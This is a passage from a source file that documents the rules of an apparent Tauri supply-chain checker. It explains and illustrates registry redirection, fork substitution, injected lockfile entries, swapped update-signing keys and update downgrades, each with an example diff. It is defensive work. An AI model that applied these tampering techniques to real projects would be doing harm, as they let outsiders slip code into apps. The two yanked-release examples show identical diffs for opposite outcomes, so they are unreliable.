"sha512-IIQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ=="\n     }\n```\n\n<!-- end examples -->\n\n## References\n\n- [RFC 8259: objects with names that aren\'t unique](https://www.rfc-editor.org/rfc/rfc8259#section-4)\n- [Cargo: Cargo.toml and Cargo.lock](https://doc.rust-lang.org/cargo/guide/cargo-toml-vs-cargo-lock.html)\n',
  "packages/package-added": '# Packages are new: `packages/package-added`\n\nSeverity: low.\n\nSince: 0.1.0\n\nPackages are new in a lockfile that run nothing when the app is built, as far as is known. All of one lockfile are told at once, at the first one\'s line.\n\n## Why it matters\n\nEach package is somebody who can put code into the app. One in seven changes of a Cargo.lock brings a new name, so this is no alarm; it is the list to look over for a name that nobody meant, which is how a misspelt or invented name gets in.\n\n## What to do\n\nRead the names. For each you should be able to say what needs it: the finding says through which direct dependency each comes in, which release newly needs it, and how many direct dependencies lead to it. "dev only", "optional" and "Windows only" stand where every way from every manifest proves it. A Cargo.lock marks none of that: there the manifests of this repository prove it, and what crates from elsewhere need counts as needed always.\n\n## When it says nothing\n\n- A package is updated or removed.\n- The package is told already, since it brings a build step, is a plugin, or comes from a new source.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags three new crates at once\n\n`src-tauri/Cargo.lock`:\n\n```diff\n\n [[package]]\n+name = "cfg-if"\n+version = "1.0.4"\n+source = "registry+https://github.com/rust-lang/crates.io-index"\n+checksum = "dbd474c54a6294d84266d3c156dcf02ce3b9a3f11e23fff116d4f2d57558b2bc"\n+\n+[[package]]\n+name = "libc"\n+version = "0.2.177"\n+source = "registry+https://github.com/rust-lang/crates.io-index"\n+checksum = "5ca67db1ac6494ebc51182bfeca558634c26cd2923d522a0c6cb9db11a55f82e"\n+\n+[[package]]\n name = "notes"\n version = "1.0.0"\n dependencies = [\n+ "sys-locale",\n  "tauri",\n ]\n\n [[package]]\n+name = "sys-locale"\n+version = "0.3.2"\n+source = "registry+https://github.com/rust-lang/crates.io-index"\n+checksum = "1578eda97022048bdfcb53e840152be4251b1017872bb5dee3433acd44f73180"\n+dependencies = [\n+ "cfg-if",\n+ "libc",\n+]\n+\n+[[package]]\n name = "tauri"\n version = "2.8.0"\n```\n\n3 crates are new: `cfg-if 1.0.4`, `libc 0.2.177` and `sys-locale 0.3.2`:\n\n```\ncargo fetch  # takes cfg-if 1.0.4\n```\n\n### It says nothing when crates are updated or go\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "glob"\n-version = "0.3.2"\n+version = "0.3.3"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "dcee78ea787e4d123286bc77a11d0f58dbb062f3bc23a7e4d605320e219625a7"\n+checksum = "9a73b9d906fdadd0321642d764154afeab14fd2f95aebb482725ab7bb870f3c2"\n\n [[package]]\n@@\n dependencies = [\n  "glob",\n- "sys-locale",\n  "tauri",\n ]\n\n [[package]]\n-name = "sys-locale"\n-version = "0.3.2"\n-source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "1578eda97022048bdfcb53e840152be4251b1017872bb5dee3433acd44f73180"\n-\n-[[package]]\n name = "tauri"\n version = "2.8.0"\n```\n\n<!-- end examples -->\n\n## References\n\n- [Cargo: Cargo.toml and Cargo.lock](https://doc.rust-lang.org/cargo/guide/cargo-toml-vs-cargo-lock.html)\n- [npm: package-lock.json](https://docs.npmjs.com/cli/v11/configuring-npm/package-lock-json)\n- [RUSTSEC-2022-0042: the malicious crate `rustdecimal`](https://rustsec.org/advisories/RUSTSEC-2022-0042.html)\n',
  "packages/plugin-added": '# A Tauri plugin is new: `packages/plugin-added`\n\nSeverity: low.\n\nSince: 0.1.0\n\nA crate `tauri-plugin-…` or a package `@tauri-apps/plugin-…` is new in a lockfile.\n\n## Why it matters\n\nA plugin adds commands to the app, and its Rust code runs in the app\'s process with all its rights. What pages may call of it is decided by capabilities, and Toril reports that on the capability\'s line; this finding says that there is something new to decide about. It names the commands that the plugin\'s `default` lets pages call, and what the same change grants of the plugin to which windows. Of a plugin that isn\'t Tauri\'s own it only says so if a capability names it.\n\n## What to do\n\nLook at the capabilities in the same change: do they grant only what the feature needs? For a plugin that isn\'t Tauri\'s own, look at who publishes it.\n\n## When it says nothing\n\n- A plugin is updated. What its permissions newly mean is told under `ipc/`.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a new plugin\n\n`src-tauri/Cargo.lock`:\n\n```diff\n dependencies = [\n  "tauri",\n+ "tauri-plugin-opener",\n ]\n\n@@\n source = "registry+https://github.com/rust-lang/crates.io-index"\n checksum = "62045b870b1888c9bddbaab0c861b60f8a17bf913c89b6dcbb3775ccb4a9126e"\n+\n+[[package]]\n+name = "tauri-plugin-opener"\n+version = "2.5.0"\n+source = "registry+https://github.com/rust-lang/crates.io-index"\n+checksum = "09ea2ce85cb8832b208e90c27464b73fab3d8fb25f758a5911bad2d3c2bb32d7"\n```\n\nThe app newly contains the Tauri plugin `tauri-plugin-opener 2.5.0`:\n\n```\ncargo fetch  # takes tauri-plugin-opener 2.5.0\n```\n\n### It says nothing when a plugin is updated\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "tauri-plugin-opener"\n-version = "2.4.0"\n+version = "2.5.0"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "6a2c88449518b681d10298dd45d273bf070c175140d1761739faad52a64f5b3b"\n+checksum = "09ea2ce85cb8832b208e90c27464b73fab3d8fb25f758a5911bad2d3c2bb32d7"\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: developing plugins](https://v2.tauri.app/develop/plugins/)\n- [Tauri 2: official plugins](https://v2.tauri.app/plugin/)\n- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)\n',
  "packages/plugin-half-missing": '# A plugin has only one of its halves: `packages/plugin-half-missing`\n\nSeverity: info.\n\nSince: 0.1.0\n\nThe app newly asks for the npm package of a plugin whose crate is in no Cargo.lock of the app, or for the crate of one of Tauri\'s plugins whose npm package no lockfile of the pages has.\n\n## Why it matters\n\nA plugin is a crate with commands and an npm package that calls them. Every call of a package without its crate fails, and nothing says so before someone uses that part of the app. A crate without its package is fine if only Rust code uses it: then no capability has to grant its commands to pages.\n\n## What to do\n\nAdd the half that is missing, or take out the one that is there. Leave it if the other half comes in a later change, or if only Rust code needs the plugin.\n\n## When it says nothing\n\n- The half stands alone at base too.\n- Another package or crate brings the half along, and the app doesn\'t ask for it itself.\n- The app takes nothing of Tauri\'s from the other ecosystem, as an app whose pages are made in Rust, or has a lockfile that Toril doesn\'t read.\n- Crates of others: many have no package. Of their packages, `tauri-plugin-x-api` and `@scope/tauri-plugin-x` belong to the crate `tauri-plugin-x`.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a package that no crate answers\n\n`package-lock.json`:\n\n```diff\n       "version": "1.0.0",\n       "dependencies": {\n-        "@tauri-apps/api": "^2.8.0"\n+        "@tauri-apps/api": "^2.8.0",\n+        "@tauri-apps/plugin-fs": "^2.3.0"\n       }\n     },\n@@\n       "integrity": "sha512-0YOighysqMXQPMHATg87oJ2N8spNah0aKG+MWVu99VZ4B8NIRSu219MvQqo1LmQJWR666h3damTB2ti/1b2MglQ==",\n       "license": "Apache-2.0 OR MIT"\n+    },\n+    "node_modules/@tauri-apps/plugin-fs": {\n+      "version": "2.3.0",\n+      "integrity": "sha512-XhjRYUyT6ML06ZYxqvqzx69jHuA0sEXfhBFUIa7vPf5KL87jb1CSElAWbWxDPnVkNqPqD9RtXmr9TCRKZ1xJew==",\n+      "license": "MIT OR Apache-2.0",\n+      "dependencies": {\n+        "@tauri-apps/api": "^2.6.0"\n+      }\n     }\n   }\n```\n\n`package.json`:\n\n```diff\n   "version": "1.0.0",\n   "dependencies": {\n-    "@tauri-apps/api": "^2.8.0"\n+    "@tauri-apps/api": "^2.8.0",\n+    "@tauri-apps/plugin-fs": "^2.3.0"\n   }\n }\n```\n\nNo crate of the app answers the calls of `@tauri-apps/plugin-fs 2.3.0`:\n\n```\nnpm ci  # takes @tauri-apps/plugin-fs 2.3.0, and no tauri-plugin-fs answers it\n```\n\n### It says nothing when both halves come together\n\n`package-lock.json`:\n\n```diff\n       "version": "1.0.0",\n       "dependencies": {\n-        "@tauri-apps/api": "^2.8.0"\n+        "@tauri-apps/api": "^2.8.0",\n+        "@tauri-apps/plugin-fs": "^2.3.0"\n       }\n     },\n@@\n       "integrity": "sha512-0YOighysqMXQPMHATg87oJ2N8spNah0aKG+MWVu99VZ4B8NIRSu219MvQqo1LmQJWR666h3damTB2ti/1b2MglQ==",\n       "license": "Apache-2.0 OR MIT"\n+    },\n+    "node_modules/@tauri-apps/plugin-fs": {\n+      "version": "2.3.0",\n+      "integrity": "sha512-XhjRYUyT6ML06ZYxqvqzx69jHuA0sEXfhBFUIa7vPf5KL87jb1CSElAWbWxDPnVkNqPqD9RtXmr9TCRKZ1xJew==",\n+      "license": "MIT OR Apache-2.0",\n+      "dependencies": {\n+        "@tauri-apps/api": "^2.6.0"\n+      }\n     }\n   }\n```\n\n`package.json`:\n\n```diff\n   "version": "1.0.0",\n   "dependencies": {\n-    "@tauri-apps/api": "^2.8.0"\n+    "@tauri-apps/api": "^2.8.0",\n+    "@tauri-apps/plugin-fs": "^2.3.0"\n   }\n }\n```\n\n`src-tauri/Cargo.lock`:\n\n```diff\n dependencies = [\n  "tauri",\n+ "tauri-plugin-fs",\n ]\n\n@@\n source = "registry+https://github.com/rust-lang/crates.io-index"\n checksum = "62045b870b1888c9bddbaab0c861b60f8a17bf913c89b6dcbb3775ccb4a9126e"\n+\n+[[package]]\n+name = "tauri-plugin-fs"\n+version = "2.3.0"\n+source = "registry+https://github.com/rust-lang/crates.io-index"\n+checksum = "f6a2c88449518b681d10298dd45d273bf070c175140d1761739faad52a64f5b3"\n```\n\n`src-tauri/Cargo.toml`:\n\n```diff\n [dependencies]\n tauri = "2"\n+tauri-plugin-fs = "2"\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: developing plugins](https://v2.tauri.app/develop/plugins/)\n- [Tauri 2: official plugins](https://v2.tauri.app/plugin/)\n',
  "packages/plugin-halves-differ": '# The two halves of a plugin differ: `packages/plugin-halves-differ`\n\nSeverity: medium; low where the app pins a `@tauri-apps/cli` before 2.8.\n\nSince: 0.1.0\n\nOf Tauri or of one of its plugins, the lockfiles newly pin a crate and an npm package with other major or minor versions: `tauri` and `@tauri-apps/api`, or `tauri-plugin-x` and `@tauri-apps/plugin-x`.\n\n## Why it matters\n\ntauri-cli compares the two halves from 2.8 on, and `tauri build` stops where they differ in more than the patch. `cargo build` and the build of the pages don\'t compare them. So a bot that updates one half gets a green check, and the release fails weeks later. Older releases of tauri-cli build the app: then pages call what the crate may not have.\n\nToril compares as tauri-cli does: only where both halves are there, pre-releases by their numbers alone, whatever repository or folder a half comes from. Of an npm package it takes what package.json asks for, by the name that it has there, and not what other packages bring along.\n\n## What to do\n\nTake the version that the finding names for the half that is behind. One half is sometimes released days before the other: until then keep both at the older version, with `~2.3` in Cargo.toml or package.json. `tauri build --ignore-version-mismatches` builds all the same.\n\n## When it says nothing\n\n- The halves differ at base too, in whatever versions: the build stopped before.\n- They differ in the patch alone.\n- Cargo.lock has several versions of the crate: tauri-cli then takes the requirement in Cargo.toml, and compares nothing unless that is a whole version.\n- Several workspaces ask for the package, and one of its versions fits: tauri-cli takes that of the folder where it starts.\n- Tauri 1, whose tool compares nothing.\n- Plugins of others, whose halves have versions of their own.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a crate that moves alone\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "tauri-plugin-fs"\n-version = "2.3.0"\n+version = "2.4.0"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "f6a2c88449518b681d10298dd45d273bf070c175140d1761739faad52a64f5b3"\n+checksum = "0a2c88449518b681d10298dd45d273bf070c175140d1761739faad52a64f5b3b"\n```\n\n`tauri-plugin-fs 2.4.0` and `@tauri-apps/plugin-fs 2.3.0` newly differ in more than the patch:\n\n```\ntauri build  # stops: tauri-plugin-fs 2.4.0 and @tauri-apps/plugin-fs 2.3.0 differ\n```\n\n### It says nothing when both halves move together\n\n`package-lock.json`:\n\n```diff\n     },\n     "node_modules/@tauri-apps/plugin-fs": {\n-      "version": "2.3.0",\n-      "integrity": "sha512-XhjRYUyT6ML06ZYxqvqzx69jHuA0sEXfhBFUIa7vPf5KL87jb1CSElAWbWxDPnVkNqPqD9RtXmr9TCRKZ1xJew==",\n+      "version": "2.4.2",\n+      "integrity": "sha512-eKjcC2F3U8TI93F0nPdv4RUl5ztYBo3iPjU1dT1vBeN4eaLhHHDQRtJAcu7mnBv8TCFRhgnh4fSl3EDihzkndg==",\n       "license": "MIT OR Apache-2.0",\n       "dependencies": {\n```\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "tauri-plugin-fs"\n-version = "2.3.0"\n+version = "2.4.0"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "f6a2c88449518b681d10298dd45d273bf070c175140d1761739faad52a64f5b3"\n+checksum = "0a2c88449518b681d10298dd45d273bf070c175140d1761739faad52a64f5b3b"\n```\n\n<!-- end examples -->\n\n## References\n\n- [tauri-cli: what is compared](https://github.com/tauri-apps/tauri/blob/dev/crates/tauri-cli/src/info/plugins.rs)\n- [Tauri: the pull request that compares versions](https://github.com/tauri-apps/tauri/pull/13993)\n- [Tauri 2: updating dependencies](https://v2.tauri.app/develop/updating-dependencies/)\n',
  "packages/source-changed": '# A package comes from somebody else: `packages/source-changed`\n\nSeverity: high; medium for repositories of Tauri\'s own organisation; low where it moves to the ecosystem\'s registry.\n\nSince: 0.1.0\n\nA package that base has is taken from another registry, repository or host; or a new package comes from one that the app took nothing from before.\n\n## Why it matters\n\nThe lockfile pins today\'s bytes, but whoever owns the source decides about every next version, and nobody but them reviewed this one. A fork keeps the name and the version of the package that it replaces, so nothing in a build tells the two apart. That holds even where today\'s hash is still the same: the next version is the new owner\'s. Package names that exist in two places are also how private packages are replaced by public ones.\n\n## What to do\n\nOpen the new address. Check who owns it, and compare its code with the source that it replaces. A fork that you need should belong to you.\n\n## When it says nothing\n\n- Another commit, branch or tag of the same repository, which has the same owner.\n- A package moves into this repository: its code is then part of the pull request.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a crate that moves to a fork\n\n`src-tauri/Cargo.lock`:\n\n```diff\n name = "notify-rust"\n version = "4.11.5"\n-source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "7150cc6dd20ffec056fc6b50a33a3ae641b316c87ab9e95d07d5072d006ea503"\n+source = "git+https://github.com/somebody/notify-rust?branch=main#3391b5815df6adabd4d4c0aee7a5d6b7c8e9f001"\n\n [[package]]\n```\n\n`notify-rust 4.11.5` newly comes from `https://github.com/somebody/notify-rust`:\n\n```\ncargo fetch  # takes notify-rust 4.11.5 from https://github.com/somebody/notify-rust?branch=main#3391b5815df6adabd4d4c0aee7a5d6b7c8e9f001\n```\n\n### It says nothing when the same branch moves on\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "notify-rust"\n-version = "4.11.5"\n-source = "git+https://github.com/somebody/notify-rust?branch=main#3391b5815df6adabd4d4c0aee7a5d6b7c8e9f001"\n+version = "4.11.6"\n+source = "git+https://github.com/somebody/notify-rust?branch=main#4402b5815df6adabd4d4c0aee7a5d6b7c8e9f001"\n\n [[package]]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Cargo: specifying dependencies](https://doc.rust-lang.org/cargo/reference/specifying-dependencies.html)\n- [Cargo: source replacement](https://doc.rust-lang.org/cargo/reference/source-replacement.html)\n- [npm: package-lock.json](https://docs.npmjs.com/cli/v11/configuring-npm/package-lock-json)\n- [SLSA: threats to a supply chain](https://slsa.dev/spec/v1.0/threats)\n',
  "packages/source-replaced": "# A setting takes packages from somewhere else: `packages/source-replaced`\n\nSeverity: high; medium for a patch of a package, for a crate that this repository holds, and for a fork of someone whose code the app takes already.\n\nSince: 0.1.0\n\nA setting says who answers when packages are asked for: another registry, a proxy, another package or repository in place of one. Or it patches a package after it was fetched.\n\n## Why it matters\n\n\"The registry\" is what the configuration says it is. A line `registry=` in `.npmrc` moves every package of the app to another server, and the lockfile may look as before. An entry in `overrides` or `resolutions` that names another package, a repository or an address puts somebody else's code under a trusted name, everywhere in the tree.\n\nCargo has the same. `[source]` with `replace-with` takes all crates from a mirror or a folder, `[patch]` and `[replace]` take one crate from a repository, a registry or a folder, and `paths` takes a folder for a crate without a word in Cargo.lock. Hashes don't always help: cargo believes what a vendored folder says of its own hash, and checks nothing of `paths`, not even with `--locked`.\n\n## What to do\n\nCheck who answers there. Prefer one registry, name scopes for private ones, and keep hashes in the lockfile: they pin the bytes, whoever serves them.\n\n## When it says nothing\n\n- npm's own registry is written out.\n- `overrides` ask for another version of the same package: the lockfile shows which.\n- The same setting moves to another file, or a patch to another table.\n- A patch asks for another branch or commit of the same repository: Cargo.lock shows which.\n- Cargo.lock follows a new patch: that the crate comes from elsewhere is told once, at the line of the patch.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags another registry\n\n`.npmrc`:\n\n```diff\n fund=false\n+registry=https://packages.example.com/npm/\n```\n\nPackages are newly taken from somewhere else, by `registry=https://packages.example.com/npm/`:\n\n```\nnpm ci  # takes packages as registry=https://packages.example.com/npm/ says\n```\n\n### It says nothing when the registry is written out\n\n`.npmrc`:\n\n```diff\n fund=false\n+registry=https://registry.npmjs.org/\n```\n\n<!-- end examples -->\n\n## References\n\n- [npm: registry](https://docs.npmjs.com/cli/v11/using-npm/registry)\n- [npm: overrides](https://docs.npmjs.com/cli/v11/configuring-npm/package-json#overrides)\n- [pnpm: settings](https://pnpm.io/settings)\n- [cargo: source replacement](https://doc.rust-lang.org/cargo/reference/source-replacement.html)\n- [cargo: overriding dependencies](https://doc.rust-lang.org/cargo/reference/overriding-dependencies.html)\n",
  "packages/unpinned": '# A package that no lockfile pins: `packages/unpinned`\n\nSeverity: medium.\n\nSince: 0.1.0\n\nA Cargo.toml or package.json newly asks for a package, and the lockfile beside it doesn\'t hold one that will do, or there is no lockfile.\n\n## Why it matters\n\nA lockfile makes every build take the bytes that were reviewed. What it doesn\'t hold is resolved anew by `cargo build` and `npm install`, on every machine and every day: the newest release that fits. Whoever publishes that release, or takes over the account that may, puts code into the app without any change to the repository. Attacks on popular packages are mostly found within hours, and hit those who build without a pin.\n\n## What to do\n\nLet cargo or your package manager write the lockfile, and commit it with the manifest. Build with `cargo build --locked` and install with `npm ci`, which stop where the two disagree.\n\n## When it says nothing\n\n- The lockfile holds a release that fits, whoever else asks for it.\n- The requirement stood there before and was as unpinned.\n- Folders of this repository: their code is part of the pull request.\n- An app that is new and has no lockfile at all.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a crate that the manifest asks for and the lockfile lacks\n\n`src-tauri/Cargo.toml`:\n\n```diff\n [dependencies]\n tauri = "2"\n+notify-rust = "4"\n```\n\n1 crate is newly asked for, and no lockfile pins it: `notify-rust 4`:\n\n```\ncargo build  # takes what fits notify-rust 4 that day\n```\n\n### It says nothing when the lockfile holds what is asked for\n\n`src-tauri/Cargo.toml`:\n\n```diff\n\n [dependencies]\n-tauri = "2"\n+tauri = "2.8"\n```\n\n<!-- end examples -->\n\n## References\n\n- [Cargo: Cargo.toml and Cargo.lock](https://doc.rust-lang.org/cargo/guide/cargo-toml-vs-cargo-lock.html)\n- [npm: package-lock.json](https://docs.npmjs.com/cli/v11/configuring-npm/package-lock-json)\n',
  "packages/unreached": '# A locked package that nothing asks for: `packages/unreached`\n\nSeverity: medium.\n\nSince: 0.1.0\n\nA lockfile newly holds an entry to which no dependency leads: neither from the app, nor from other projects of the repository, nor from another package.\n\n## Why it matters\n\nPackage managers prune such entries, so somebody wrote it by hand, or merged it in. `npm ci` installs what the lockfile says, with its scripts; plain `cargo build` takes it out again without a word, so that the next diff hides where it went. Entries that nothing needs are how a prepared package waits for the line that uses it.\n\n## What to do\n\nTake the entry out, or let the package manager write the lockfile anew: if it stays, something needs it after all.\n\n## When it says nothing\n\n- A package that a dependency leads to, however far away.\n- The entry stood there before.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags an entry that nothing needs\n\n`package-lock.json`:\n\n```diff\n   "lockfileVersion": 3,\n   "packages": {\n+    "node_modules/prepared": { "version": "1.0.0", "integrity": "sha512-ZZQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ==" },\n     "": { "name": "notes", "version": "1.0.0", "dependencies": { "left": "^1.0.0" } },\n     "node_modules/left": {\n```\n\n`prepared 1.0.0` is newly locked, and nothing asks for it:\n\n```\nnpm ci  # takes prepared 1.0.0\n```\n\n### It says nothing of a package that is asked for\n\n`package-lock.json`:\n\n```diff\n   "lockfileVersion": 3,\n   "packages": {\n-    "": { "name": "notes", "version": "1.0.0", "dependencies": { "left": "^1.0.0" } },\n+    "": { "name": "notes", "version": "1.0.0", "dependencies": { "left": "^1.0.0", "prepared": "^1.0.0" } },\n+    "node_modules/prepared": { "version": "1.0.0", "integrity": "sha512-ZZQ3w0TLm4hrBGbFYY8TEMl3nX0PhCNhMkGLMNPeiDl6fJTUUeR4mvBVvM9hRmZgj8f3fYV4y0b0jTcwS0i0dQ==" },\n     "node_modules/left": {\n       "version": "1.0.0",\n```\n\n`package.json`:\n\n```diff\n   "name": "notes",\n   "version": "1.0.0",\n-  "dependencies": { "left": "^1.0.0" }\n+  "dependencies": { "left": "^1.0.0", "prepared": "^1.0.0" }\n }\n```\n\n<!-- end examples -->\n\n## References\n\n- [npm: package-lock.json](https://docs.npmjs.com/cli/v11/configuring-npm/package-lock-json)\n- [Cargo: Cargo.toml and Cargo.lock](https://doc.rust-lang.org/cargo/guide/cargo-toml-vs-cargo-lock.html)\n',
  "packages/version-withdrawn": '# A release that its registry has taken back: `packages/version-withdrawn`\n\nSeverity: high; medium for a release that is only yanked.\n\nSince: 0.1.0\n\nCargo.lock newly pins a release that the index of crates.io doesn\'t list any more, or lists as yanked.\n\n## Why it matters\n\ncrates.io keeps each release for ever; what it takes out of its index was found to be harmful, or belongs to somebody else. A build that finds the archive in a cache or at a mirror runs it all the same. Yanked releases are there for lockfiles that have them already: cargo doesn\'t choose one by itself, so somebody wrote it into the lockfile.\n\n## What to do\n\nTake a release that is listed. For one that was withdrawn, look for an advisory, and look at what it ran on machines that have built it.\n\n## When it says nothing\n\n- Base pins the same release.\n- The crate comes from git or from another registry, the run is offline, or the index doesn\'t answer. What isn\'t known of its archive is a gap then.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a release that is yanked\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "bytes"\n-version = "1.10.0"\n+version = "1.10.9"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "0000000000000000000000000000000000000000000000000000000000000000"\n+checksum = "1111111111111111111111111111111111111111111111111111111111111111"\n\n [[package]]\n```\n\nThe lockfile newly pins `bytes 1.10.9`, which its publisher has yanked:\n\n```\ncargo fetch  # takes bytes 1.10.9\n```\n\n### It says nothing of a release that is listed\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "bytes"\n-version = "1.10.0"\n+version = "1.10.9"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n-checksum = "0000000000000000000000000000000000000000000000000000000000000000"\n+checksum = "1111111111111111111111111111111111111111111111111111111111111111"\n\n [[package]]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Cargo: `cargo yank`](https://doc.rust-lang.org/cargo/commands/cargo-yank.html)\n- [Cargo: the index of a registry](https://doc.rust-lang.org/cargo/reference/registry-index.html)\n- [RUSTSEC-2022-0042: the malicious crate `rustdecimal`](https://rustsec.org/advisories/RUSTSEC-2022-0042.html)\n',
  "updates/key-trusted": '# Another key signs the app\'s updates: `updates/key-trusted`\n\nSeverity: critical where another key was trusted before; high for the first one; medium for one that no updater reads yet; low for an app that is new.\n\nSince: 0.1.0\n\n`plugins.updater.pubkey` (in Tauri 1: `tauri.updater.pubkey`) holds a key that it did not, and the updater is built in. It is decoded as the updater does: the second line of what the base64 stands for is the key, whatever the first one says. Its number is the one that `minisign` shows.\n\nA key that waited in the configuration is told where the updater arrives: at the line of `Cargo.toml`, or at `active` in Tauri 1.\n\n## Why it matters\n\nAn update is any program that this key signed. Where it is downloaded from doesn\'t matter, so the key is what keeps others from replacing the app.\n\n## What to do\n\nA rotation is announced and rare. Compare the number with the one that the release machine shows.\n\n## When it says nothing\n\n- The same key with another comment.\n- A key that the updater can\'t decode: it then refuses every update, which is said, and doesn\'t block.\n- The app moves from Tauri 1 to 2 with its key.\n\nCode that gives the updater a key, a server or a comparison of versions while the app runs isn\'t followed: where it is new, that is a gap that blocks.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags another key\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n   "plugins": {\n     "updater": {\n-      "pubkey": "dW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk6IDlBMUM0NjMxREZCNDRGMjYKUldRbVQ3VGZNVVljbWdBQkFnTUVCUVlIQ0FrS0N3d05EZzhRRVJJVEZCVVdGeGdaR2hzY0hSNGYK",\n+      "pubkey": "dW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk6IDAxMjM0NTY3ODlBQkNERUYKUldUdnphdUpaMFVqQVFBQkFnTUVCUVlIQ0FrS0N3d05EZzhRRVJJVEZCVVdGeGdaR2hzY0hSNGYK",\n       "endpoints": [\n         "https://updates.example.com/latest.json"\n```\n\nWhoever holds the key `0123456789ABCDEF` can newly sign what the app installs as its update:\n\n```\nminisign -Vm update.tar.gz -P RWTvzauJZ0UjAQABAgMEBQYHCAkKCwwNDg8QERITFBUWFxgZGhscHR4f\n```\n\n### It says nothing of another comment\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n   "plugins": {\n     "updater": {\n-      "pubkey": "dW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk6IDlBMUM0NjMxREZCNDRGMjYKUldRbVQ3VGZNVVljbWdBQkFnTUVCUVlIQ0FrS0N3d05EZzhRRVJJVEZCVVdGeGdaR2hzY0hSNGYK",\n+      "pubkey": "dW50cnVzdGVkIGNvbW1lbnQ6IG1pbmlzaWduIHB1YmxpYyBrZXk6IHRoZSBrZXkgb2YgTm90ZXMKUldRbVQ3VGZNVVljbWdBQkFnTUVCUVlIQ0FrS0N3d05EZzhRRVJJVEZCVVdGeGdaR2hzY0hSNGYK",\n       "endpoints": [\n         "https://updates.example.com/latest.json"\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the updater](https://v2.tauri.app/plugin/updater/)\n- [Minisign: what signs updates](https://jedisct1.github.io/minisign/)\n- [Tauri 1: the updater](https://v1.tauri.app/v1/guides/distribution/updater)\n',
  "updates/rollback-allowed": '# An old release can be installed as an update: `updates/rollback-allowed`\n\nSeverity: high; low where only a page can ask for it and the server has to agree, and for an app that is new.\n\nSince: 0.1.0\n\n`plugins.updater.requireSignedVersion` was `true` and no longer is, `allowDowngrades` was turned on, or the updater went to a version (2.8 to 2.11) where pages decide it, or to one before 2.12 that knows neither.\n\nThe app\'s own code compares versions in the updater\'s place (medium, possible): what it takes for newer may be older.\n\n## Why it matters\n\nThe updater installs what its key signed, whatever the version. Without a signed version the server says which version it is; with `allowDowngrades` it needn\'t even be newer (CVE-2026-95625).\n\n## What to do\n\nSign releases with a CLI that records the version, then require it.\n\n## When it says nothing\n\n- The app has had no updater: that it goes without is its default, and the new key is reported by itself.\n- `false` is written out, which is the default.\n- The app moves from Tauri 1, which checks no signed version either.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags downgrades\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n         "https://updates.example.com/latest.json"\n       ],\n-      "requireSignedVersion": true\n+      "requireSignedVersion": true,\n+      "allowDowngrades": true\n     }\n   }\n```\n\nThe updater can newly install a release older than the one that runs:\n\n```\n{ "version": "99.0.0", "url": "https://example.com/app-1.0.0.tar.gz" }\n```\n\n### It says nothing when the default is written out\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n       "endpoints": [\n         "https://updates.example.com/latest.json"\n-      ]\n+      ],\n+      "requireSignedVersion": false,\n+      "allowDowngrades": false\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the updater](https://v2.tauri.app/plugin/updater/)\n- [The Update Framework: attacks on updates](https://theupdateframework.github.io/specification/latest/)\n- [CVE-2026-95625: the updater installs old releases](https://www.cve.org/CVERecord?id=CVE-2026-95625)\n',
